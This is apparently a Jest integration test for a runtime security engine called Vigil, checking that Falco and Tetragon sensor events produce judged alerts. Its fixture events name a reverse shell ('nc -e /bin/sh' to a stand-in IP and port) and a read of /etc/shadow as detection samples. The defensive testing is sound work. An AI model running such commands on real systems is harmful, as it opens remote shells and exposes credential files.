import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { NatsConnection } from '@nats-io/nats-core';
import { connect } from '@nats-io/transport-node';
import { decodeAlert, ensureStreams, subjects, type Alert } from '../proto/src/index.js';
import { createContainer, removeContainersByPrefix, startLocalNats, type LocalNats, type TestContainer } from './harness/index.js';
import { spawnVigil, type VigilProcess } from './support/vigil-process.js';

/**
 * Vigil beside a sensor already on the host: `vigil collect runtime --source
 * falco|tetragon` reads the sensor's own output (Falco's http_output, Tetragon's
 * export file), and the engine judges the events like its own eBPF ones.
 */

const PREFIX = `vigil-sensor-${process.pid}-`;

async function until(what: string, done: () => boolean, timeoutMs: number, logs: () => string): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!done()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}:\n${logs().slice(-3000)}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('runtime sensors - Falco and Tetragon output judged by the engine', () => {
  let nats: LocalNats;
  let nc: NatsConnection;
  let engine: VigilProcess;
  let target: TestContainer;
  let work: string;
  const alerts: Alert[] = [];

  beforeAll(async () => {
    await removeContainersByPrefix(PREFIX);
    nats = await startLocalNats();
    nc = await connect({ servers: nats.url });
    await ensureStreams(nc);
    nc.subscribe(subjects.allAlerts, { callback: (_e, m) => void alerts.push(decodeAlert(m.data)) });
    work = await fs.mkdtemp(path.join(os.tmpdir(), 'vigil-sensor-'));
    target = await createContainer({ name: `${PREFIX}web`, cmd: ['sleep', '300'] });
    engine = spawnVigil(['engine', '--nats', nats.url, '--alert-window', '0']);
  }, 60_000);
  afterAll(async () => {
    await engine?.stop();
    await nc?.close();
    await nats?.stop();
    await removeContainersByPrefix(PREFIX);
    await fs.rm(work, { recursive: true, force: true });
  });

  it('runtime sensors - a Falco alert posted by its http_output becomes a judged fact attributed to the container', async () => {
    // Port 0: the collector binds a free port and logs it, so no other process can take it between pick and bind.
    const collector = spawnVigil(['collect', 'runtime', '--nats', nats.url, '--host', 'falco-node', '--source', 'falco', '--listen', '127.0.0.1:0']);
    try {
      const bound = (): RegExpExecArray | null => /"listen":"127\.0\.0\.1:(\d+)"/.exec(collector.stderr());
      await until('the collector to listen', () => bound() !== null, 30_000, collector.stderr);
      const port = Number(bound()![1]);
      expect(port).toBeGreaterThan(0);
      // What Falco's http_output posts: one json_output alert per request, 12-character container id.
      const alert = {
        hostname: 'falco-node',
        priority: 'Warning',
        rule: 'Read sensitive file untrusted',
        source: 'syscall',
        time: new Date().toISOString(),
        output_fields: { 'container.id': target.id.slice(0, 12), 'evt.type': 'openat', 'evt.arg.flags': 'O_RDONLY', 'fd.name': '/etc/shadow', 'proc.name': 'cat', 'proc.exepath': '/bin/cat', 'proc.pid': 4242, 'user.uid': 0 },
      };
      const response = await fetch(`http://127.0.0.1:${port}/`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(alert) });
      expect(response.status).toBe(200);
      expect((await fetch(`http://127.0.0.1:${port}/`)).status).toBe(405);
      const judged = (): Alert | undefined => alerts.find((a) => a.source?.host === 'falco-node' && a.finding?.rule_id === 'VGL-RUN-014');
      await until('VGL-RUN-014 from the Falco event', () => judged() !== undefined, 15_000, () => collector.stderr() + engine.stderr());
      expect(judged()!.finding?.subject).toMatchObject({ name: target.name, id: target.id });
    } finally {
      await collector.stop();
    }
  }, 90_000);

  it('runtime sensors - lines Tetragon appends to its export file become judged facts; a garbage line before them does not stop the stream', async () => {
    const file = path.join(work, 'tetragon.log');
    await fs.writeFile(file, '');
    const collector = spawnVigil(['collect', 'runtime', '--nats', nats.url, '--host', 'tetragon-node', '--source', 'tetragon', '--input', file]);
    try {
      await until('the collector to follow the file', () => /runtime source/.test(collector.stderr()), 30_000, collector.stderr);
      const exec = {
        process_exec: {
          process: {
            pid: 5151,
            uid: 0,
            cwd: '/',
            binary: '/bin/nc',
            arguments: '-e /bin/sh 198.51.100.9 4444',
            flags: 'execve clone',
            start_time: new Date().toISOString(),
            docker: target.id.slice(0, 31),
          },
          parent: { pid: 1, binary: '/bin/sh', arguments: '-c nc' },
        },
        node_name: 'tetragon-node',
        time: new Date().toISOString(),
      };
      await fs.appendFile(file, `not json at all\n${JSON.stringify(exec)}\n`);
      const judged = (): Alert | undefined => alerts.find((a) => a.source?.host === 'tetragon-node' && a.finding?.rule_id === 'VGL-RUN-007');
      await until('VGL-RUN-007 from the Tetragon event', () => judged() !== undefined, 15_000, () => collector.stderr() + engine.stderr());
      expect(judged()!.finding?.subject).toMatchObject({ name: target.name, id: target.id });
      expect(judged()!.finding?.message).toContain('-e /bin/sh 198.51.100.9 4444');
    } finally {
      await collector.stop();
    }
  }, 90_000);
});
